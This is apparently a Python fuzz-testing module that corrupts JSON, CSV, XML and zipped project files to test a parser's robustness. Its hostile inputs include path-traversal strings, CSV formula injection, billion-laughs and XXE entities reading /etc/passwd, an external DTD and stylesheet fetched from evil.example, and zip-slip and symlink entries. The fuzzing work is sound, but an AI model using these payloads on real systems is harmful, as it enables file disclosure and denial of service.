"""Ways to damage what programs give each other: JSON, tables, XML, and XML in zip files; by a seed."""

import csv
import io
import json
import random
import re
import struct
import warnings
import zipfile
from collections.abc import Callable, Mapping

from tests.fuzz import json_mutators

HOSTILE = (
    "", " ", "0", "-1", "1.5", "９", "9" * 5000, "NaN", "true", "=1+1", "'=1", "\0", "\u202e", "x" * 70_000,
    "2020-13-45", "9999-12-31T23:59:59-23:59", "e" + "\u0301" * 3000, "a/b/c", "/", "\\/", "a\nb", "★",
    "\ufffe", "../../etc/passwd", "file:///etc/passwd", "internal://../x", "internal:///etc/passwd", "C:\\x",
    "relative:///../x", "absolute:///etc/passwd", "internal://project.qde", "internal://", "http://a.example",
    "{00000000-0000-0000-0000-000000000000}", "urn:uuid:1", "#ff0000", "#zzz", "Actors/" * 300,
)  # fmt: skip
_DOCTYPES = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    '<?xml-stylesheet href="http://evil.example/x.xsl"?>',
)
_PIECES = (
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    "&e;",
    "&lt;",
    "<![CDATA[x]]>",
    "<!-- x -->",
    "<?x y?>",
    "<a>" * 300,
    "<Note/>",
    "\x01",
    "]]>",
)
# A name begins where none goes on, so that a value of nothing but letters is looked through once.
_ATTRIBUTE = re.compile(r'(?<![A-Za-z:])([A-Za-z:]+)="([^"]*)"')
_ELEMENT = re.compile(r"<([A-Za-z]+)\b[^<>]*(?:/>|>[^<]*</\1>)")


def damaged_json(rng: random.Random, data: bytes) -> bytes:
    """JSON with something else in it than belongs there, or in another encoding."""
    text = json.dumps(json_mutators.damage(rng, json.loads(data)), ensure_ascii=rng.random() < 0.5)
    match rng.randrange(12):
        case 0:
            text = text.replace(
                rng.choice(("1", "0", "true", "null")), rng.choice(("NaN", "1e999", "-Infinity"))
            )
        case 1:
            text = "[" * 100_000 + text
        case 2:
            return text.encode("utf-16", "surrogatepass")
    return text.encode("utf-8", "surrogatepass")


def damaged_table(rng: random.Random, data: bytes) -> bytes:
    """A table with other cells, rows, columns or separators."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for _ in range(rng.choice((1, 3, 30))):
        row = rng.choice(rows)
        match rng.randrange(8):
            case 0:
                rows.append(list(row))
            case 1:
                rng.shuffle(row)
            case 2:
                row.append(rng.choice(HOSTILE))
            case 3:
                del row[rng.randrange(len(row) + 1) :]
            case 4 if row:
                other = rng.choice(rows)
                row[rng.randrange(len(row))] = rng.choice(other) if other else ""
            case _ if row:
                row[rng.randrange(len(row))] = rng.choice(HOSTILE)
    out = io.StringIO()
    separator = rng.choice((",", ",", ",", ";", "\t"))
    csv.writer(out, delimiter=separator, lineterminator=rng.choice(("\r\n", "\n"))).writerows(rows)
    return out.getvalue().encode(rng.choice(("utf-8-sig", "utf-8", "utf-16", "gb18030")), "replace")


def damaged_xml(rng: random.Random, data: bytes) -> bytes:
    """XML with other values, with elements lost, doubled and moved, or with what XML can be made to do."""
    text = data.decode("utf-8")
    for _ in range(rng.choice((1, 1, 3, 10))):
        match rng.randrange(8):
            case 0 | 1 | 2:
                values = list(_ATTRIBUTE.finditer(text))
                if values:
                    here, other = rng.choice(values), rng.choice(values)
                    value = rng.choice((other[2], rng.choice(HOSTILE)))
                    value = value.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
                    text = text[: here.start(2)] + value + text[here.end(2) :]
            case 3:
                values = list(_ATTRIBUTE.finditer(text))
                if values:
                    here = rng.choice(values)
                    text = text[: here.start()] + text[here.end() :]
            case 4 | 5:
                elements = list(_ELEMENT.finditer(text))
                if elements:
                    here, other = rng.choice(elements), rng.choice(elements)
                    piece = rng.choice(("", here[0] * 2, other[0], here[0] * 500))
                    text = text[: here.start()] + piece + text[here.end() :]
            case 6:
                at = rng.randrange(len(text) + 1)
                text = text[:at] + rng.choice(_PIECES) + text[at:]
            case _:
                head, end, rest = text.partition("?>")
                text = head + end + rng.choice(_DOCTYPES) + rest
    if rng.random() < 0.1:
        text = text.replace("utf-8", rng.choice(("utf-16", "utf-7", "latin-1", "x", "ebcdic-cp-us")), 1)
    return text.encode(rng.choice(("utf-8", "utf-8", "utf-8", "utf-16", "latin-1")), "replace")


def damaged_project(rng: random.Random, data: bytes) -> bytes:
    """A project whose XML, texts or zip file is damaged."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        inner = {name: archive.read(name) for name in archive.namelist()}
    if rng.random() < 0.6:
        inner["project.qde"] = damaged_xml(rng, inner["project.qde"])
    if rng.random() < 0.3:
        texts = [name for name in inner if name != "project.qde"]
        name = rng.choice(texts)
        inner[name] = rng.choice(
            (b"", b"\xff\xfe", inner[name] * 500, b"0" * 9_000_000, inner[name][:-1], rng.randbytes(99))
        )
    packed = _packed(rng, inner)
    if rng.random() < 0.3:
        packed = _damaged_zip(rng, packed)
    return packed


def _packed(rng: random.Random, inner: Mapping[str, bytes]) -> bytes:
    held = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")
        for name, content in inner.items():
            shown = name
            if rng.random() < 0.03:
                shown = rng.choice(("../", "/", "C:\\", "\x01", "a/../../")) + name
            archive.writestr(zipfile.ZipInfo(shown), content, rng.choice((0, 8, 8, 8)))
            if rng.random() < 0.02:
                archive.writestr(name, content)
        if rng.random() < 0.1:
            link = zipfile.ZipInfo("sources/link.txt")
            link.external_attr = 0o120777 << 16
            archive.writestr(link, "/etc/passwd")
        if rng.random() < 0.05:
            for number in range(2000):
                archive.writestr(f"sources/{number}.bin", b"")
    return held.getvalue()


def _damaged_zip(rng: random.Random, data: bytes) -> bytes:
    damaged = bytearray(data)
    directory = max(0, data.rfind(b"PK\x01\x02"))
    if rng.random() < 0.3 and directory + 28 < len(damaged):
        damaged[directory + 24 : directory + 28] = struct.pack("<L", rng.choice((0, 5, 2**31, 2**32 - 1)))
    for _ in range(rng.choice((1, 4, 30))):
        damaged[rng.randrange(directory if rng.random() < 0.6 else 0, len(damaged))] = rng.randrange(256)
    return bytes(damaged)


def damaged_bytes(rng: random.Random, data: bytes) -> bytes:
    """Any file with other bytes, or without some."""
    damaged = bytearray(data)
    for _ in range(rng.choice((1, 5, 50))):
        damaged[rng.randrange(len(damaged))] = rng.randrange(256)
    start = rng.randrange(len(damaged))
    if rng.random() < 0.3:
        del damaged[start : start + rng.choice((1, 100, 10**6))]
    return bytes(damaged)


DAMAGES: dict[str, Callable[[random.Random, bytes], bytes]] = {
    ".jsonld": damaged_json,
    ".json": damaged_json,
    ".csv": damaged_table,
    ".qdc": damaged_xml,
    ".qdpx": damaged_project,
}
"""By the suffix of a file: what damages its structure."""
